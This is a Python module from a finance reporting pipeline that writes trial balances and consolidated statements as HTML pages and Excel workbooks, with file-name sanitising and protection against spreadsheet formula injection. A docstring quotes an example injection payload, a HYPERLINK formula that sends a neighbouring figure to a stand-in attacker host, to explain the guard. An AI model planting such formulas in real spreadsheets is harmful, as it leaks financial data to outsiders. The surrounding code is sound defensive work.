"""Reports as files for people: an HTML page with its charts, and an Excel workbook.

Finance users live in Excel, so the workbook holds numbers as numbers (not
text) with a thousands format, one sheet per table, and the charts' figures on
sheets of their own; the HTML page is for reading and printing.
"""

from __future__ import annotations

import hashlib
import re
import unicodedata
from collections.abc import Sequence
from dataclasses import dataclass
from decimal import Decimal
from html import escape
from pathlib import Path
from typing import TYPE_CHECKING

from osr_pipelines.reports.build import Report

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet
from osr_pipelines.reports.chart import MONTHS, Series, bar_chart, monthly_result_svg
from osr_pipelines.reports.consolidation import (
    Consolidation,
    Groupings,
    consolidated_balance_sheet,
    consolidated_income_statement,
    mismatch_table,
)
from osr_pipelines.reports.periods import label
from osr_pipelines.reports.tables import Cell, Row, Table, amount
from osr_pipelines.reports.trial_balance import ZERO

TITLES = {"trial-balance": "Trial balance", "income-statement": "Income statement", "balance-sheet": "Balance sheet"}
STYLE = """
body { font-family: system-ui, sans-serif; margin: 2em; color: #222; }
table { border-collapse: collapse; margin: 1em 0 2em; }
th, td { padding: 3px 10px; border-bottom: 1px solid #ddd; }
td.amount, th.amount { text-align: right; font-variant-numeric: tabular-nums; }
tr.strong td { font-weight: 600; border-top: 1px solid #999; }
"""


@dataclass(frozen=True)
class Document:
    title: str
    #: file name without extension
    stem: str
    currency: str
    #: (sheet name, table): the report itself, then the figures behind the charts
    sheets: list[tuple[str, Table]]
    #: (heading, inline SVG)
    charts: list[tuple[str, str]]
    #: how many of ``sheets`` are the report (the rest feed the charts)
    report_sheets: int = 1


#: how long the name in a report's file name may be; with the report's kind and month it stays far below 255
NAME_LIMIT = 80
_SPELLED = str.maketrans({"æ": "ae", "Æ": "Ae", "ø": "o", "Ø": "O"})  # NFKD leaves these as they are


def file_name(name: str) -> str:
    """A company's or client's name as it may appear in a file name: ASCII letters, digits, ``.``, ``_``, ``-``.

    Names come from ERPs and from people, and a file system takes neither
    every character nor every length: a 300-character client name made its
    report fail, and a right-to-left override or a zero-width space in a file
    name makes it read as something else. Accents are dropped (å→a, ø→o,
    æ→ae), blanks become ``_`` (so ``Acme Group`` and ``Acme-Group`` stay two
    files), anything else goes, and the result is cut to :data:`NAME_LIMIT`.
    A name that lost characters on the way (dropped, or cut) gets a short hash
    of the real name, so two names never share a file; one whose letters were
    only spelled out stays readable (``Ærlige Øl AS`` is ``Aerlige_Ol_AS``).
    Reports show the real name.
    """
    spelled = unicodedata.normalize("NFKD", name.translate(_SPELLED))
    # what a reader sees of the name, apart from the accents NFKD splits off
    visible = re.sub(r"\s+", "_", "".join(c for c in spelled if not unicodedata.combining(c))).strip("._-")
    text = re.sub(r"_{2,}", "_", re.sub(r"[^A-Za-z0-9._-]", "", visible.encode("ascii", "ignore").decode()))
    text = text.strip("._-")
    if text and text == visible and len(text) <= NAME_LIMIT:
        return text
    digest = hashlib.sha256(name.encode("utf-8", "surrogatepass")).hexdigest()[:8]
    kept = text[:NAME_LIMIT - len(digest) - 1].rstrip(".-")
    return f"{kept}-{digest}" if kept else digest


def company_document(report: Report) -> Document:
    years = sorted(report.monthly_result)
    figures = Table("Monthly result", ("Month", *(str(y) for y in years)),
                    [Row((name, *(report.monthly_result[y][m] or ZERO for y in years)))
                     for m, name in enumerate(MONTHS)])
    return Document(f"{TITLES[report.kind]} {label(report.period)}: {report.company}",
                    f"{file_name(report.company)}-{report.kind}-{label(report.period)}", report.currency,
                    [(TITLES[report.kind] if i == 0 else "Not mapped", t) for i, t in enumerate(report.tables)]
                    + [("Monthly result", figures)],
                    [("Monthly result", monthly_result_svg(report.monthly_result, report.currency))],
                    report_sheets=len(report.tables))


def client_document(group: Consolidation, kind: str, groupings: Groupings | None = None) -> Document:
    """The consolidated income statement or balance sheet, with the intercompany mismatches and two charts:
    revenue and cost per company, and the result per company beside the eliminations and the group."""
    render = consolidated_income_statement if kind == "income-statement" else consolidated_balance_sheet
    table = render(group, groupings)
    mismatches = mismatch_table(group)
    ytd = [group.parts[c].ytd for c in group.companies] + [group.column(lambda t: t.ytd, group.eliminated)]
    revenue = [-sum((v for a, v in part.items() if a.startswith("3")), ZERO) for part in ytd]
    cost = [-sum((v for a, v in part.items() if not a.startswith("3")), ZERO) for part in ytd]
    revenue.append(sum(revenue, ZERO))
    cost.append(sum(cost, ZERO))
    result = [r + k for r, k in zip(revenue, cost, strict=True)]
    columns = [*group.companies, "Eliminations", "Consolidated"]
    figures = Table("Year to date per company", ("Company", "Revenue", "Cost", "Result"),
                    [Row(cells) for cells in zip(columns, revenue, cost, result, strict=True)])
    companies = len(group.companies)
    what = TITLES[kind].lower()
    return Document(
        f"Consolidated {what} {label(group.period)}: {group.client}",
        f"{file_name(group.client)}-consolidated-{kind}-{label(group.period)}",
        group.currency,
        [(f"Consolidated {what}"[:31], table), ("Intercompany", mismatches), ("Per company", figures)],
        [("Revenue and cost per company, year to date",
          bar_chart("revenue-and-cost", "Revenue and cost per company", list(group.companies),
                    [Series("revenue", "Revenue", revenue[:companies]), Series("cost", "Cost", cost[:companies])],
                    group.currency)),
         ("Result per company, eliminations and the group, year to date",
          bar_chart("consolidated-result", "Result with eliminations", columns,
                    [Series("result", "Result", result)], group.currency))],
        report_sheets=2)


def _html_table(table: Table) -> str:
    numeric = [isinstance(c, Decimal) for c in table.rows[0].cells] if table.rows else [False] * len(table.columns)
    head = "".join(f'<th class="{"amount" if n else "text"}">{escape(c)}</th>'
                   for c, n in zip(table.columns, numeric, strict=True))
    body = []
    for row in table.rows:
        cells = "".join(f'<td class="amount">{amount(c)}</td>' if isinstance(c, Decimal) else f"<td>{escape(c)}</td>"
                        for c in row.cells)
        body.append(f'<tr class="{"strong" if row.strong else "detail"}">{cells}</tr>')
    return (f'<h2>{escape(table.title)}</h2><table class="report"><thead><tr>{head}</tr></thead>'
            f'<tbody>{"".join(body)}</tbody></table>')


def html(doc: Document) -> str:
    return (f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{escape(doc.title)}</title>'
            f"<style>{STYLE}</style></head><body><h1>{escape(doc.title)}</h1>"
            f"<p>Amounts in {escape(doc.currency)}.</p>"
            + "".join(_html_table(t) for _, t in doc.sheets[:doc.report_sheets])
            + "".join(f"<h2>{escape(heading)}</h2>{svg}" for heading, svg in doc.charts)
            + "</body></html>")


#: what makes a spreadsheet take text for a formula (OWASP's CSV injection list)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _append(sheet: Worksheet, values: Sequence[Cell]) -> None:
    """Add a row; text stays text, whatever it starts with.

    Account names, company names and keys come from the ERP or the registry:
    openpyxl stores a text starting with ``=`` as a live formula, so
    ``=HYPERLINK("http://evil.example/?"&C3,"Klikk")`` as an account name would
    send a neighbouring figure away when clicked. Every text cell is stored as a
    string, and one that starts like a formula also gets Excel's quote prefix,
    so that editing the cell keeps it text. Amounts stay numbers.
    """
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if cell.value.startswith(FORMULA_START):
                cell.quotePrefix = True


def xlsx(doc: Document, path: Path) -> None:
    # imported here: every run's process loads the code location, and only report runs write workbooks
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    bold = Font(bold=True)
    for index, (name, table) in enumerate(doc.sheets):
        sheet = book.active if index == 0 else book.create_sheet()
        sheet.title = name
        _append(sheet, [table.title])
        sheet["A1"].font = Font(bold=True, size=13)
        _append(sheet, table.columns)
        for cell in sheet[2]:
            cell.font = bold
        for row in table.rows:
            _append(sheet, row.cells)
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, Decimal | int | float):
                    cell.number_format = "#,##0.00"
                if row.strong:
                    cell.font = bold
        sheet.column_dimensions["B"].width = 36
    book.save(path)


def write(doc: Document, folder: Path) -> tuple[Path, Path]:
    """Write ``<stem>.html`` and ``<stem>.xlsx`` into ``folder``; return both paths."""
    folder.mkdir(parents=True, exist_ok=True)
    page, book = folder / f"{doc.stem}.html", folder / f"{doc.stem}.xlsx"  # keys hold dots: no with_suffix
    page.write_text(html(doc), encoding="utf-8")
    xlsx(doc, book)
    return page, book
